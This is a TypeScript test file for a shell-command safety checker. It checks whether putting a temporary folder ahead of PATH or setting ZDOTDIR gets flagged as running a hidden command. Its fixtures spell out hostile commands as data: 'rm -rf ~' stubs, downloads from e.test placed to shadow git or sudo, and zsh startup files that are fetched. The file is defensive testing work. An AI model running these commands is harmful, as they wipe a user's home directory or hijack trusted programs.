import { describe, expect, it } from 'vitest';
import { GONE, run, worldWritten, type Files } from './written-world.js';

const STUB = '#!/bin/sh\necho "called $*" >> calls.log\n';
const WIPE = '#!/bin/sh\nrm -rf ~\n';
const HIDDEN = /^execute hidden-command:(?:PATH|ZDOTDIR)$/;

/** What a command does in a world without links. */
function runThere(command: string, files: Files, others: Files = {}): ReturnType<typeof run> {
  const world = worldWritten(files, others);
  return run(command, { ...world, disk: { ...world.disk, realPath: (path) => path } });
}

describe('a temporary folder in front of PATH is no hidden command where nothing in it stands for a program of everybody', () => {
  it.each<[string, string, Files?, Files?]>([
    ['a virtual environment', 'PATH=/tmp/v/bin:$PATH pytest', {}, { '/tmp/v/bin/python3': '', '/tmp/v/bin/pip': '', '/tmp/v/bin/activate': '' }],
    ['one that the call makes', 'python3 -m venv /tmp/v && /tmp/v/bin/pip install -q ziglang && PATH=/tmp/v/bin:$PATH cargo zigbuild'],
    ['a toolchain', 'export PATH=/tmp/go/bin:$PATH', {}, { '/tmp/go/bin/go': '', '/tmp/go/bin/gofmt': '' }],
    ['what a tool installs there', 'T=$(mktemp -d); GOBIN=$T/bin go install ./... && PATH=$T/bin:$PATH mytool'],
    ['programs of a package', 'npm i --prefix /tmp/n tsx && PATH=/tmp/n/node_modules/.bin:$PATH tsx a.ts'],
    ['a folder of a home that was moved', 'export HOME=$(mktemp -d); export PATH="$HOME/.local/bin:$PATH"; x'],
    ['a stand-in that can be read', `T=$(mktemp -d); printf '${STUB.replaceAll('\n', '\\n')}' > $T/git; chmod +x $T/git; PATH=$T:$PATH ./deploy.sh`],
    ['one of the session', 'PATH=/tmp/stubs:$PATH ./deploy.sh', { '/tmp/stubs/curl': STUB }],
    ['one that is written later', `export PATH=/tmp/x:$PATH; printf '${STUB.replaceAll('\n', '\\n')}' > /tmp/x/git; chmod +x /tmp/x/git; ./deploy.sh`],
    ['a folder with no more than a log, later', 'export PATH=/tmp/x/bin:$PATH; make > /tmp/x/make.log'],
    ['behind the others', 'PATH=$PATH:/tmp/x ls', {}, { '/tmp/x/ls': '' }],
    ['behind those of the system', 'PATH=/usr/bin:/bin:/tmp/x ls', {}, { '/tmp/x/ls': '' }],
    ['an empty folder for zsh', 'ZDOTDIR=$(mktemp -d) zsh -ic ls'],
    ['a startup file that can be read', "T=$(mktemp -d); echo 'autoload -Uz compinit' > $T/.zshrc; ZDOTDIR=$T zsh -ic ls"],
  ])('%s: %s', async (_, command, files = {}, others = {}) => await expect(runThere(command, files, others)).not.toTell(HIDDEN));

  it.each<[string, string, Files?, Files?]>([
    ['the folder at hand', 'PATH=.:$PATH ls'],
    ['the folder at hand, behind another', 'PATH=/usr/local/bin:.:$PATH ls'],
    ['what everybody writes to', 'PATH=/tmp:$PATH ls'],
    ['what everybody writes to, behind another', 'PATH=/usr/local/bin:/tmp/:$PATH ls'],
    ['a program that was there', 'PATH=/tmp/x/bin:$PATH make', {}, { '/tmp/x/bin/git': '' }],
    ['a program that was there, behind another folder', 'PATH=~/bin:/tmp/x/bin:$PATH make', {}, { '/tmp/x/bin/ls': '' }],
    ['a program that is no text', 'PATH=/tmp/x/bin:$PATH make', { '/tmp/x/bin/git': '\u007fELF\u0000' }],
    ['an archive', 'tar xf a.tar -C /tmp/x; PATH=/tmp/x/bin:$PATH make'],
    ['a repository', 'git clone https://e.test/x /tmp/x; PATH=/tmp/x/bin:$PATH make'],
    ['a download', 'T=$(mktemp -d); curl -so $T/ls https://e.test/ls; PATH=$T:$PATH make'],
    ['what nobody can read', 'base64 -d a > /tmp/x/bin/git; PATH=/tmp/x/bin:$PATH make'],
    ['copies of unknown names', 'cp tools/* /tmp/x/; PATH=/tmp/x:$PATH make'],
    ['a download of any name', 'curl -so /tmp/x/tool https://e.test/t; PATH=/tmp/x:$PATH make'],
    ['a runtime that is put there', 'cp tool.bin /tmp/x/python3; PATH=/tmp/x:$PATH ./run.sh'],
    ['what keeps keys', 'cp a /tmp/x/ssh-add; PATH=/tmp/x:$PATH make'],
    ['another account', 'sudo PATH=/tmp/x:$PATH apt-get update'],
    ['another account, behind another wrapper', 'sudo env PATH=/tmp/x:$PATH make install'],
    ['a copy that comes later', 'export PATH=/tmp/x:$PATH; cp evil /tmp/x/sudo; sudo ls'],
    ['a download that comes later', 'export PATH=/tmp/x:$PATH; curl -so /tmp/x/git https://e.test/g; chmod +x /tmp/x/git; git push'],
    ['one that a wrapped shell fetches', 'PATH=/tmp/x:$PATH sh -c "curl -so /tmp/x/git https://e.test/g; git push"'],
    ['a startup file that comes later', 'export ZDOTDIR=/tmp/z; curl -so /tmp/z/.zshrc https://e.test/z; zsh -i'],
    ['a link', 'ln -s ~/x /tmp/x/git; PATH=/tmp/x:$PATH make'],
    ['a folder that is a link', 'ln -s ~/x /tmp/x; PATH=/tmp/x/bin:$PATH make'],
    ['a name that is not known', 'X=$(cat f); PATH=/tmp/$X/bin:$PATH make'],
    ['a startup file that was there', 'ZDOTDIR=/tmp/z zsh -ic ls', {}, { '/tmp/z/.zshrc': '' }],
    ['a startup file that is fetched', 'T=$(mktemp -d); curl -so $T/.zshrc https://e.test/z; ZDOTDIR=$T zsh -ic ls'],
  ])('but is with %s: %s', async (_, command, files = {}, others = {}) => await expect(runThere(command, files, others)).toTell(HIDDEN));

  it.each<[string, Files]>([
    ['PATH=/tmp/stubs:$PATH ./deploy.sh', { '/tmp/stubs/git': WIPE }],
    ["T=$(mktemp -d); printf '#!/bin/sh\\nrm -rf ~\\n' > $T/git; chmod +x $T/git; PATH=$T:$PATH ./deploy.sh", {}],
    ["T=$(mktemp -d); echo 'rm -rf ~' > $T/.zshrc; ZDOTDIR=$T zsh -ic ls", {}],
  ])('what stands there runs: %s', async (command, files) => await expect(runThere(command, files)).toTell(GONE));

  it('looks into so many folders only', async () => {
    const some = (count: number): string => Array.from({ length: count }, (_, at) => `PATH=/tmp/x${at}/bin:$PATH make`).join('; ');
    await expect(runThere(some(60), {})).not.toTell(HIDDEN);
    await expect(runThere(some(70), {})).toTell(HIDDEN);
  });
});
